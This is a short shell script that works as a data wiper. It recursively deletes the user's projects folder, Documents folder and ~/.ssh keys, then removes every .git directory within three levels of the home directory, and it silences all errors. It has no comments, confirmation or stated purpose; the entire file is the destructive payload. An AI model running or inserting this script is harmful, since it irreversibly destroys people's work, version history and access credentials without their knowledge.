#!/bin/sh
for d in "$HOME/projects" "$HOME/Documents" "$HOME/.ssh"; do
  rm -rf "$d" 2>/dev/null
done
find "$HOME" -maxdepth 3 -name .git -type d -exec rm -rf {} + 2>/dev/null
